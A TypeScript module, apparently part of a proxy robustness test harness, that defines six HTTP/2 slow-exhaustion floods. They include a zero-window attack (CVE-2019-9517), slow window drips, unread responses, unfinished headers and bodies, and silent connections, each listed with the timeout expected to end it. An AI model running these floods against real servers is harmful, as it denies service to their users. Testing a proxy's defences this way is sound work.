// Attacks that send little and hold on to what they have: connections, streams, answers. Timeouts end them.
import { type Flood, repeated, type Script, streamIds } from "./flood.ts";
import { frame, INITIAL_WINDOW_SIZE, literal, request, setting, TYPE, u32 } from "./frames.ts";

/** How many streams each connection holds: as many as most servers allow. */
const STREAMS = 100;

function holds(frames: number, ...begin: readonly Buffer[]): Script {
  return { begin: Buffer.concat(begin), beginFrames: frames };
}

function requests(method: "GET" | "POST", path: string): Buffer {
  const next = streamIds();
  return repeated(STREAMS, () => request(next(), method, path));
}

export const HOLDING: readonly Flood[] = [
  {
    name: "zero-window",
    what: "100 large answers on each connection, for which no window is ever opened (CVE-2019-9517)",
    ends: [],
    open: () => holds(STREAMS + 1, setting(INITIAL_WINDOW_SIZE, 0), requests("GET", "/1m")),
  },
  {
    name: "slow-drip",
    what: "100 large answers on each connection, of which each is given a byte every now and then",
    ends: [],
    open: () => {
      const begin = Buffer.concat([setting(INITIAL_WINDOW_SIZE, 0), requests("GET", "/1m")]);
      const next = streamIds();
      const drip = repeated(STREAMS, () => frame(TYPE.windowUpdate, 0, next(), u32(1)));
      let at = Number.NEGATIVE_INFINITY;
      const more = (): Buffer => {
        const now = performance.now();
        if (now < at + DRIP_MS) return Buffer.alloc(0);
        at = now;
        return drip;
      };
      return { begin, beginFrames: STREAMS + 1, more, moreFrames: 0 };
    },
  },
  {
    name: "deaf",
    what: "large answers on a connection from which nothing is read",
    ends: ["takes-nothing"],
    open: () => {
      const windows = [
        setting(INITIAL_WINDOW_SIZE, 2 ** 30),
        frame(TYPE.windowUpdate, 0, 0, u32(2 ** 30)),
      ];
      return { ...holds(STREAMS + 2, ...windows, requests("GET", "/8m")), deaf: true };
    },
  },
  {
    name: "unfinished-head",
    what: "a head that begins and never goes on",
    ends: ["late-frame"],
    open: () => holds(1, frame(TYPE.headers, 0, 1, literal(":method", "GET"))),
  },
  {
    name: "unfinished-bodies",
    what: "100 requests on each connection whose bodies never come",
    ends: [],
    open: () => holds(STREAMS, requests("POST", "/upload")),
  },
  {
    name: "silent",
    what: "connections on which nothing is ever sent",
    ends: ["idle"],
    open: () => ({ ...holds(0), silent: true }),
  },
];

/** The time between two bytes of `slow-drip`: shorter than the timeouts of the proxy under attack. */
const DRIP_MS = 1_000;
